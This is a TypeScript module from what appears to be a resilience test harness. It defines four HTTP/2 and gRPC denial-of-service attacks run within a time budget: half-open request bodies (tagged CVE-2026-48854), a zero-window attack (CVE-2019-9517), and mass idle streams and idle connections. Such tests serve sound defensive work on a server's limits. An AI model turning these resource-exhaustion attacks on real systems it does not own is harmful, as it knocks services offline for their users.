import { FLAG, FRAME, frame, grpcMessage, SETTING } from '../../../bench/load/frames.ts';
import { type Attack, type Budget, hasTime, type Target } from '../attack.ts';
import { ACQUIRE, LEASE_STREAM } from '../paths.ts';
import { type Connection, headersFrame } from '../raw-http2.ts';

const STREAMS_PER_CONNECTION = 500;

/** Opens streams over as many connections as they need, holds them until the budget is used up, and lets them go. */
async function hold(
  target: Target,
  budget: Budget,
  count: number,
  make: (id: number) => Buffer,
  settings: readonly (readonly [number, number])[] = [],
): Promise<string> {
  const connections: Connection[] = [];
  for (let opened = 0; opened < count && hasTime(budget); opened += STREAMS_PER_CONNECTION) {
    const connection = (await target.connect()).begin(settings);
    connections.push(connection);
    const here = Math.min(STREAMS_PER_CONNECTION, count - opened);
    await connection.send(...Array.from({ length: here }, (_, n) => make(2 * n + 1)));
  }
  while (hasTime(budget)) await new Promise((resolve) => setTimeout(resolve, 50));
  const answered = connections.reduce((sum, { answers }) => sum + answers, 0);
  for (const connection of connections) connection.close();
  return `${count} streams, ${connections.length} connections, ${answered} answered`;
}

/** CVE-2026-48854 and the like: bodies that begin and never end. */
export const halfOpenBodies: Attack = {
  name: 'half-open bodies',
  count: 5_000,
  run: (target, budget, count) =>
    hold(target, budget, count, (id) =>
      Buffer.concat([headersFrame(id, ACQUIRE), frame(FRAME.data, 0, id, Buffer.from([0, 0, 0, 1, 0, 7]))]),
    ),
};

/** CVE-2019-9517: calls whose answers nobody takes. */
export const zeroWindow: Attack = {
  name: 'answers not taken',
  count: 5_000,
  run: (target, budget, count) => {
    const call = grpcMessage(Buffer.from('120774616b652d6974', 'hex'));
    const make = (id: number) => Buffer.concat([headersFrame(id, ACQUIRE), frame(FRAME.data, FLAG.endStream, id, call)]);
    return hold(target, budget, count, make, [[SETTING.initialWindowSize, 0]]);
  },
};

/** Streams on which nothing happens. */
export const idleStreams: Attack = {
  name: 'idle streams',
  count: 10_000,
  run: (target, budget, count) => hold(target, budget, count, (id) => headersFrame(id, LEASE_STREAM)),
};

/** Connections on which nothing happens: half of them speak HTTP/2, half of them nothing. */
export const idleConnections: Attack = {
  name: 'idle connections',
  count: 1_000,
  async run(target, budget, count) {
    const connections: Connection[] = [];
    while (connections.length < count && hasTime(budget)) {
      const some = Array.from({ length: Math.min(50, count - connections.length) }, () => target.connect());
      connections.push(...(await Promise.all(some)));
    }
    for (const [n, connection] of connections.entries()) if (n % 2 === 0) connection.begin();
    while (hasTime(budget)) await new Promise((resolve) => setTimeout(resolve, 50));
    const open = connections.filter(({ isOpen }) => isOpen).length;
    for (const connection of connections) connection.close();
    return `${connections.length} connections, ${open} still open at the end`;
  },
};
